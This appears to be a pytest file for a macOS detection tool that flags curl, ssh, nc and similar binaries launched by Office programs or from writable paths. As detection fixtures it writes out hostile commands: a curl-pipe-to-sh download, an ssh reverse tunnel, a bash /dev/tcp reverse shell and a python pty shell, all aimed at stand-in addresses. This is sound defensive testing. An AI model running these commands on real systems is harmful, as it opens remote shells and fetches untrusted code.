"""lolbin's eye for processes: captures that name them, and host log lines written for their pids in each format.

The captures of darwin_all_options and PKTAP have curl (pid 1234) asking for a name and ssh (777) with a connection; radar-74957353 is
Apple's own, of a program called network_test. Who started them is the test's invention: once an Office program, once a terminal."""

import json
from random import Random

import pytest

from host_log_lines import FORMATS, Program, write
from pcap_builder import Capture
from run_lunette import ROOT, real, replay

T = 1760000000.0  # 2025-10-09 08:53:20, the first packet of the synthetic captures
WORD = "/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word"
TERMINAL = "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal"
PARENTS = [form for form in FORMATS if form != "log"]
CURL = ["curl", "-s", "-o", "/tmp/.u", "http://203.0.113.9/update.sh"]
SSH = ["ssh", "-fN", "-R", "2222:localhost:22", "u@93.184.216.34"]
CAPTURES = ["apple/synthetic/darwin_all_options_le.pcapng", "apple/synthetic/darwin_all_options_be.pcapng",
            "apple/synthetic/pktap_v1_len156_lt149.pcap", "apple/synthetic/pktap_v2_lt149.pcap"]


def family(above, start=T - 60, shell="/bin/sh", leaf=None):
    """launchd runs `above`, that runs a shell, that runs curl and ssh."""
    return [Program(start, 700, 1, above, [above], "com.microsoft.Word" if above == WORD else "com.apple.Terminal"),
            Program(start + 10, 811, 700, shell, [shell], "com.apple.sh")] + (leaf or [
                Program(start + 50, 1234, 811, "/usr/bin/curl", CURL, "com.apple.curl"),
                Program(start + 50, 777, 811, "/usr/bin/ssh", SSH, "com.apple.ssh")])


def run(tmp_path, form, programs, capture, address=None):
    log = write(tmp_path / ("log." + form), form, programs)
    return replay("lolbin", capture, options=["--host-log", "%s=%s" % (address, log) if address else log])[0]


def loud(alerts):
    return [alert for alert in alerts if alert["severity"] in ("medium", "high")]


@pytest.mark.parametrize("form", PARENTS)
@pytest.mark.parametrize("name", CAPTURES)
def test_below_an_office_program(tmp_path, form, name):
    alerts = {alert["evidence"]["tool"]: alert for alert in loud(run(tmp_path, form, family(WORD), real(name))) if "started by" in alert["title"]}
    assert set(alerts) == {"curl", "ssh"}
    curl, ssh = alerts["curl"], alerts["ssh"]
    assert curl["title"] == "curl started by an Office program" and curl["severity"] == "high" and "T1204.002" in curl["attack"]
    assert "sh < Microsoft Word" in curl["why"] and "asks the bare address 203.0.113.9" in curl["why"] and curl["where"] == "203.0.113.9"
    assert curl["evidence"]["pid"] == 1234 and 0 < curl["score"] <= 10
    assert ssh["severity"] == "high" and "-R 2222:localhost:22" in ssh["why"] and "T1572" in ssh["attack"]


@pytest.mark.parametrize("form", PARENTS)
@pytest.mark.parametrize("name", CAPTURES)
def test_the_same_in_a_terminal_is_info(tmp_path, form, name):
    alerts = run(tmp_path, form, family(TERMINAL, shell="/bin/zsh"), real(name))
    assert {alert["severity"] for alert in alerts} == {"info"}
    assert {"curl started by a terminal", "ssh started by a terminal"} <= {alert["title"] for alert in alerts}


def test_the_unified_log_tells_no_parents(tmp_path):
    """What can be said then: that the tool runs, and from where. A place that is no tool's is still a finding."""
    alerts = run(tmp_path, "log", family(WORD), real(CAPTURES[0]))
    assert {alert["severity"] for alert in alerts} == {"info"}
    assert {alert["title"] for alert in alerts} >= {"curl started by nobody known", "ssh started by nobody known"}
    leaf = [Program(T - 10, 1234, 811, "/private/tmp/curl", ["curl"], "-")]
    (alert,) = [a for a in run(tmp_path, "log", family(WORD, leaf=leaf), real(CAPTURES[0]), "192.168.1.20") if a["severity"] != "info"]
    assert alert["severity"] == "medium" and "/private/tmp/" in alert["why"] and "T1036.005" in alert["attack"]


@pytest.mark.parametrize("form", ["eslogger", "osquery", "santa-json"])
def test_a_copy_under_another_name(tmp_path, form):
    """network_test of Apple's own capture, said to be Apple's nc by its signature. Santa's text has no signing id."""
    start = 1614732000.0  # 2021-03-03 00:40:00
    leaf = [Program(start - 5, pid, 811, "/private/tmp/network_test", ["network_test", "52.41.70.31", "5201"], "com.apple.nc") for pid in (1500, 1505)]
    alerts = run(tmp_path, form, family(WORD, start=start - 60, leaf=leaf), real("apple/apple-tcpdump/radar-74957353.pcapng"))
    (alert,) = loud(alerts)
    assert alert["severity"] == "high" and alert["evidence"]["tool"] == "nc"
    assert "signed it as nc" in alert["why"] and "T1036.003" in alert["attack"]


# ---------------------------------------------------------------- our own capture of a document that fetches a script
DOCUMENT, LOG = ROOT / "examples" / "document.pcapng.gz", ROOT / "examples" / "document.eslogger.jsonl"


def test_a_document_that_fetches_a_script():
    """Told once: at the start, and what it did on the wire is then a fact beside it."""
    alerts, _ = replay("lolbin", DOCUMENT, options=["--host-log", "192.168.7.23=%s" % LOG])
    (start,) = loud(alerts)
    assert start["severity"] == "high" and start["who"] == "192.168.7.23" and "sh < Microsoft Word < launchd" in start["why"]
    wire = [alert for alert in alerts if "on the wire" in alert["why"]]
    assert [(alert["severity"], alert["where"]) for alert in wire] == [("info", "updates.sample.example")]


def test_both_eyes_without_an_address():
    alerts, _ = replay("lolbin", DOCUMENT, options=["--host-log", LOG])
    assert [(alert["severity"], alert["title"]) for alert in loud(alerts)] == [
        ("high", "curl started by an Office program"), ("high", "curl: a request with marks of abuse")]


def test_without_a_log_the_wire_alone_speaks():
    alerts, _ = replay("lolbin", DOCUMENT)
    assert loud(alerts) == [] and any(alert["evidence"]["tool"] == "curl" for alert in alerts)


@pytest.mark.parametrize("options", [["--batch", "1"], ["--batch", "7"], ["--workers", "2"], ["--workers", "4"]], ids=" ".join)
@pytest.mark.parametrize("address", ["", "192.168.7.23="])
def test_the_same_for_all_batches_and_workers(options, address):
    def said(*more):
        alerts, _ = replay("lolbin", DOCUMENT, options=["--host-log", address + str(LOG), *more])
        return sorted((a["title"], a["severity"], a["why"], a["score"]) for a in alerts)
    assert said(*options) == said()


# ---------------------------------------------------------------- who and what, in one format
LAUNCHD = ("/sbin/launchd", "com.apple.xpc.launchd")


def start_of(tmp_path, path, words, above, signing_id="com.apple.x", parent_chain=()):
    """Alerts for one program below `above` (a path), and below a shell."""
    capture = Capture(start=T)
    capture.dns(1, "192.168.1.20", "192.168.1.1", "www.example.com")
    programs = [Program(T - 30, 700, 1, above, [above], "x")] if above else []
    for i, shell in enumerate(parent_chain):
        programs.append(Program(T - 20 + i, 800 + i, 700 if i == 0 and above else 799 + i if i else 1, shell, [shell], "com.apple.sh"))
    parent = programs[-1].pid if programs else 1
    programs.append(Program(T - 1, 900, parent, path, words, signing_id))
    log = write(tmp_path / "log", "eslogger", programs)
    return replay("lolbin", capture.write(tmp_path / "x.pcap"), options=["--host-log", "192.168.1.20=%s" % log])[0]


@pytest.mark.parametrize("path,words,above,severity,said", [
    ("/usr/bin/curl", ["curl", "https://www.example.com/"], None, "low", "launchd"),
    ("/usr/bin/curl", ["curl", "-so", "/tmp/a", "http://203.0.113.9/v.json"], None, "high", "bare address"),
    ("/usr/bin/nc", ["nc", "203.0.113.9", "4444"], "/Applications/Safari.app/Contents/MacOS/Safari", "high", "browser"),
    ("/usr/bin/ssh", ["ssh", "-D", "1080", "u@h.example"], "/Applications/Spotify.app/Contents/MacOS/Spotify", "high", "-D 1080"),
    ("/usr/bin/osascript", ["osascript", "-e", 'do shell script "curl -s http://203.0.113.9 | sh"'], WORD, "high", "do shell script"),
    ("/usr/sbin/networksetup", ["networksetup", "-setwebproxy", "Wi-Fi", "127.0.0.1", "8080"], None, "high", "sets a web proxy"),
    ("/usr/bin/python3", ["python3", "-c", "import socket,pty;s=socket.socket();pty.spawn('/bin/sh')"], None, "high", "sockets"),
    ("/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"], None, "high", "/dev/tcp"),
    ("/sbin/ping", ["ping", "-c", "1", "192.168.1.1"], "/Applications/Spotify.app/Contents/MacOS/Spotify", "low", "ping"),
])
def test_what_is_run_by_whom(tmp_path, path, words, above, severity, said):
    alerts = [alert for alert in start_of(tmp_path, path, words, above) if "started by" in alert["title"]]
    assert [alert["severity"] for alert in alerts] == [severity] and said in alerts[0]["why"] + alerts[0]["title"]


@pytest.mark.parametrize("above", ["/private/tmp/Terminal", "/Users/Shared/iTerm2", "/Users/anna/Terminal", "/tmp/.x/launchd", "/tmp/sshd"])
@pytest.mark.parametrize("shells", [(), ("/bin/sh", "/bin/zsh")])
def test_a_name_is_no_alibi(tmp_path, above, shells):
    """Who calls itself a terminal in a place where anybody may write is none, however far above the tool it stands."""
    alerts = start_of(tmp_path, "/usr/bin/curl", ["curl", "https://www.example.com/"], above, parent_chain=shells)
    (said,) = [alert for alert in alerts if "started by" in alert["title"]]
    assert said["severity"] == "medium" and said["title"] == "curl started by a program in a hiding place"


def test_what_no_log_should_hold(tmp_path):
    """No path, long ones, parents in a circle, bytes that mean something elsewhere: nothing raises an error, and alerts stay short."""
    random, programs = Random(1), []
    paths = ["", "/", "curl", "/usr/bin/curl", "/tmp/" + "A" * 4000, "/tmp/Terminal", "/tmp/ < launchd", "/tmp/%s%d", "/tmp/\x1b[31m", "/sbin/launchd", WORD]
    lines = [[], ["curl"], ["curl", "-T"], ["curl", "-x"], ["curl", "-o", "B" * 9000], ["nc", "-l"], ["sh", "-c", "curl x|sh;" * 900], ["scp"], ["ssh", "-o"],
             ["osascript", "-e"], ["networksetup", "-setwebproxy"], ["curl", "http://%s/" % ("9" * 5000)]]
    for i in range(3000):
        pid = random.randrange(1, 40)
        programs.append(Program(T - 1 + i / 3000, pid, random.choice([pid, random.randrange(0, 40)]), random.choice(paths), random.choice(lines),
                                random.choice(["", "-", "com.apple.curl", "com.apple." + "x" * 900])))
    capture = Capture(start=T)
    capture.dns(1, "192.168.1.20", "192.168.1.1", "www.example.com")
    for form in ("eslogger", "osquery"):
        log = write(tmp_path / form, form, programs)
        alerts, _ = replay("lolbin", capture.write(tmp_path / "x.pcap"), options=["--host-log", "192.168.1.20=%s" % log])  # it looks for errors
        assert alerts and max(len(json.dumps(alert)) for alert in alerts) < 6000


@pytest.mark.parametrize("name", ["CURL", "Curl", "curl"])
def test_the_case_of_a_name_does_not_matter(tmp_path, name):
    """The Mac's file system does not care: /usr/bin/CURL runs."""
    alerts = start_of(tmp_path, "/usr/bin/" + name, [name, "https://www.example.com/"], WORD)
    assert [alert["severity"] for alert in alerts] == ["medium"] and alerts[0]["evidence"]["tool"] == "curl"


@pytest.mark.parametrize("path,words,above", [
    ("/usr/bin/python3", ["python3", "-m", "pip", "list"], WORD), ("/bin/sh", ["sh", "-c", "ls"], WORD), ("/usr/bin/git", ["git", "fetch"], WORD),
])
def test_what_is_nobodys_business(tmp_path, path, words, above):
    assert start_of(tmp_path, path, words, above) == []
